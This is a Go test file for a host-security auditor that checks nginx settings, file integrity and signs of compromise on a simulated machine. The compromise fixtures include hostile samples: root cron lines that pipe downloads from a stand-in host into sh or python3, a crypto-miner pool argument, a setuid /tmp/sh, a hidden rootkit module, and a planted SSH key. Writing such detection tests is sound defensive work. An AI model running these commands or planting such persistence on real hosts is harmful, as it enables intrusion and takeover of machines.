package audit_test

import (
	"net/netip"

	"sekimori/internal/audit"
	"sekimori/internal/host"
)

func webHits() []hit {
	site := func(m *machine) *host.WebSite { return &m.s.Web[0].Sites[0] }
	return []hit{
		{id: "web-basic-http", severity: audit.High, want: "/etc/nginx/sites-enabled/example:9: nginx asks for a password without TLS", spoil: func(m *machine) {
			site(m).Listen = append(site(m).Listen, host.WebListen{Port: 80})
		}},
		{id: "web-admin", severity: audit.Medium, want: "nginx shows status at /status", spoil: func(m *machine) {
			site(m).ClientAuth = ""
			site(m).Pages[0].Restricted = false
		}},
		{id: "web-basic", severity: audit.Medium, want: "asks for a password alone", spoil: func(m *machine) { site(m).ClientAuth = "" }},
		{id: "web-tls-min", severity: audit.Medium, want: "takes TLSv1.1", spoil: func(m *machine) { site(m).Protocols = []string{"TLSv1.1", "TLSv1.2"} }},
		{id: "web-ciphers", severity: audit.Medium, want: "RC4-SHA", spoil: func(m *machine) { site(m).Ciphers = "RC4-SHA:HIGH" }},
		{id: "web-cert", severity: audit.Medium, want: "ended", spoil: func(m *machine) { m.s.Certificates[0].NotAfter = ago(3) }},
		{id: "web-cert", severity: audit.Low, want: "ends 2026-11-23", spoil: func(m *machine) { m.s.Certificates[0].NotAfter = ago(-3) }},
		{id: "web-key", severity: audit.High, want: "/etc/ssl/private/example.key has mode 0644", spoil: func(m *machine) { m.s.Certificates[0].Key.Mode = 0o644 }},
		{id: "web-clientca", severity: audit.Medium, want: "names no authority", spoil: func(m *machine) { site(m).ClientCA = "" }},
		{id: "web-clientca", severity: audit.Low, want: "lets those in that have none", spoil: func(m *machine) { site(m).ClientAuth = "optional" }},
		{id: "web-passwords", severity: audit.Medium, want: "/etc/nginx/htpasswd has mode 0644", spoil: func(m *machine) { site(m).Auth[0].Passwords.Mode = 0o644 }},
		{id: "web-plain", severity: audit.Low, want: "answers without TLS", spoil: func(m *machine) { m.s.Web[0].Sites[1].Redirect = false }},
		{id: "web-index", severity: audit.Low, want: "lists the directory /files", spoil: func(m *machine) { site(m).AutoIndex = []string{"/files"} }},
		{id: "web-tokens", severity: audit.Info, want: "nginx tells its version", spoil: func(m *machine) { site(m).Tokens = true }},
		{id: "web-waf", severity: audit.Info, want: "nginx", spoil: func(m *machine) { site(m).WAF = "" }},
		{id: "int-preload", severity: audit.Critical, want: "/etc/ld.so.preload: /usr/lib/libselinux2.so", spoil: func(m *machine) {
			m.s.Startup.Preload = []string{"/usr/lib/libselinux2.so"}
		}, cure: func(m *machine) { m.s.Startup.Preload = []string{"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"} }},
		{id: "int-pkg", severity: audit.Critical, want: "/usr/bin/ls of coreutils", spoil: func(m *machine) {
			m.s.Integrity.Changed = append(m.s.Integrity.Changed, host.ChangedFile{Path: "/usr/bin/ls", Package: "coreutils", What: "content"})
		}},
		{id: "int-ww", severity: audit.High, want: "/usr/local/bin has mode 0777", spoil: func(m *machine) {
			m.s.Integrity.Writable = append(m.s.Integrity.Writable, dir("/usr/local/bin", 0o777))
		}},
		{id: "int-suid", severity: audit.High, want: "/usr/lib/.x: set-user-id 0", spoil: func(m *machine) {
			m.s.Integrity.SetID = append(m.s.Integrity.SetID, host.SetIDFile{File: file("/usr/lib/.x", 0o4755)})
		}},
		{id: "int-suid", severity: audit.Critical, want: "/tmp/sh", spoil: func(m *machine) {
			m.s.Integrity.SetID = append(m.s.Integrity.SetID, host.SetIDFile{File: file("/tmp/sh", 0o4755)})
		}},
		{id: "int-unit", severity: audit.High, want: "ssh.service has mode 0666", spoil: func(m *machine) { m.s.Units[0].File.Mode = 0o666 }},
		{id: "int-odd", severity: audit.High, want: "/dev/shm/.x", spoil: func(m *machine) { m.s.Integrity.Odd = append(m.s.Integrity.Odd, file("/dev/shm/.x", 0o755)) }},
		{id: "int-cron", severity: audit.High, want: "/etc/cron.d/backup has mode 0666", spoil: func(m *machine) { m.s.Startup.Cron[1].File.Mode = 0o666 }},
		{id: "int-module", severity: audit.Critical, want: "module diamorphine", spoil: func(m *machine) { m.s.Kernel.Hidden = []string{"diamorphine"} }},
		{id: "int-base", severity: audit.Info, want: "baseline", spoil: func(m *machine) {
			m.s.Packages = m.s.Packages[:2]
			m.s.Integrity.Checked = false
		}},
	}
}

func compromiseHits() []hit {
	perl := func(m *machine, script string) *host.Process {
		p := m.add("", "", "/usr/bin/perl")
		p.Interpreter, p.Script, p.Argv = "perl", script, []string{"perl", script}
		m.s.Outbound = append(m.s.Outbound, host.Outbound{Proto: "tcp", Port: 443, PID: p.PID, UID: 33, Connections: 1, Peers: 1, Networks: 1, Sample: []netip.Addr{netip.MustParseAddr("198.51.100.9")}})
		return p
	}
	return []hit{
		{id: "ioc-memfd", severity: audit.Critical, want: "has no file (/memfd:x (deleted))", spoil: func(m *machine) {
			p := m.add("", "", "/memfd:x (deleted)")
			p.Memory, p.Deleted = true, true
		}, cure: func(m *machine) {
			p := m.add("", "", "/memfd:runc_cloned:/proc/self/exe")
			p.Memory, p.Name = true, "runc"
		}},
		{id: "ioc-deleted-exe", severity: audit.Critical, want: "/dev/shm/k was deleted", spoil: func(m *machine) {
			p := m.add("", "", "/dev/shm/k")
			p.Deleted, p.Package = true, ""
		}, cure: func(m *machine) { m.s.Processes[1].Deleted = true }},
		{id: "ioc-deleted-exe", severity: audit.Medium, want: "/opt/x/y was deleted", spoil: func(m *machine) {
			p := m.add("", "", "/opt/x/y")
			p.Deleted, p.Package = true, ""
		}},
		{id: "ioc-exec-tmp", severity: audit.Critical, want: "runs /var/tmp/.x/m, and listens on 4444/tcp", spoil: func(m *machine) { m.add("tcp", "127.0.0.1:4444", "/var/tmp/.x/m") }},
		{
			id: "ioc-exec-tmp", severity: audit.Medium, want: "runs /tmp/build/a.out", spoil: func(m *machine) { m.add("", "", "/tmp/build/a.out") },
			cure: func(m *machine) { m.add("", "", "/tmp/build/a.out").Container = "0123" },
		},
		{
			id: "ioc-interp-net", severity: audit.Critical, want: "the script /tmp/.x/bot.pl has 1 connections to port 443/tcp", spoil: func(m *machine) { perl(m, "/tmp/.x/bot.pl") },
			cure: func(m *machine) { perl(m, "/usr/share/munin/munin-graph") },
		},
		{id: "ioc-interp-net", severity: audit.Critical, want: "is gone", spoil: func(m *machine) { perl(m, "/var/www/x.pl").ScriptGone = true }},
		{id: "ioc-fake-kthread", severity: audit.Critical, want: "runs /usr/bin/kdevtmpfsi", spoil: func(m *machine) { m.add("", "", "/usr/bin/kdevtmpfsi").Argv = []string{"[kworker/0:1]"} }},
		{id: "ioc-argv", severity: audit.Critical, want: "calls itself /usr/sbin/apache2 and is /usr/bin/perl", spoil: func(m *machine) {
			perl(m, "/var/www/x.pl").Argv = []string{"/usr/sbin/apache2", "-k", "start"}
		}},
		{id: "ioc-fanout", severity: audit.Critical, want: "290 connections to port 22 of 290 hosts", spoil: func(m *machine) {
			p := m.add("", "", "/usr/bin/python3.13")
			m.s.Outbound = []host.Outbound{{Proto: "tcp", Port: 22, PID: p.PID, Connections: 290, Opening: 280, Peers: 290, Networks: 280}}
		}, cure: func(m *machine) {
			m.s.Outbound = []host.Outbound{{Proto: "tcp", Port: 443, Connections: 290, Peers: 290, Networks: 280}, {Proto: "tcp", Port: 22, Connections: 3, Peers: 3, Networks: 2}}
		}},
		{id: "ioc-irc", severity: audit.High, want: "port 6667", spoil: func(m *machine) {
			perl(m, "/var/www/x.pl")
			m.s.Outbound[0].Port = 6667
		}, cure: func(m *machine) {
			p := m.add("", "", "/usr/bin/irssi")
			m.s.Outbound = []host.Outbound{{Proto: "tcp", Port: 6697, PID: p.PID, Connections: 1, Peers: 1}}
		}},
		{id: "ioc-miner", severity: audit.Critical, want: "stratum+tcp://", spoil: func(m *machine) {
			m.add("", "", "/usr/bin/thing").Argv = []string{"thing", "-o", "stratum+tcp://pool.example:3333"}
		}},
		{id: "ioc-persist", severity: audit.Critical, want: "/etc/cron.d/x:1: root /tmp/.x/run", spoil: func(m *machine) {
			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "/tmp/.x/run >/dev/null 2>&1"})
		}, cure: func(m *machine) {
			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "find /tmp -mtime +7 -delete"})
		}},
		{id: "ioc-persist", severity: audit.Critical, want: "ExecStart=/dev/shm/k", spoil: func(m *machine) {
			m.s.Units[0].Commands = []host.UnitCommand{{Kind: "ExecStart", Argv: []string{"/dev/shm/k"}}}
		}},
		{id: "ioc-download", severity: audit.Critical, want: "curl -s http://x.example/i.sh | sh", spoil: func(m *machine) {
			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -s http://x.example/i.sh | sh"})
		}, cure: func(m *machine) {
			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -fsS https://hc.example/ping/x > /dev/null; curl -s localhost/s | python3 -m json.tool | mail root"})
		}},
		{id: "ioc-download", severity: audit.Critical, want: "/usr/bin/python3 -", spoil: func(m *machine) {
			m.s.Startup.Cron = append(m.s.Startup.Cron, host.CronJob{File: file("/etc/cron.d/x", 0o644), Line: 1, User: "root", Command: "curl -u joe:*** 'http://x.example/i?a=1&b=2' | sudo -n /usr/bin/python3 -"})
		}},
		{id: "ioc-authkeys", severity: audit.Critical, want: "mdrfckr", spoil: func(m *machine) { m.s.SSH.KeyFiles[0].Text += keyA + " mdrfckr\n" }},
		{id: "ioc-syskeys", severity: audit.High, want: "www-data (uid 33", spoil: func(m *machine) {
			m.s.Accounts = append(m.s.Accounts, host.Account{Name: "www-data", UID: 33, Line: 9, Shell: "/bin/bash", LoginShell: true, Home: "/var/www", Shadow: host.Shadow{State: "star", Max: -1}})
			m.s.SSH.KeyFiles = append(m.s.SSH.KeyFiles, keyFile("www-data", 33, keyA+" x\n"))
		}},
	}
}
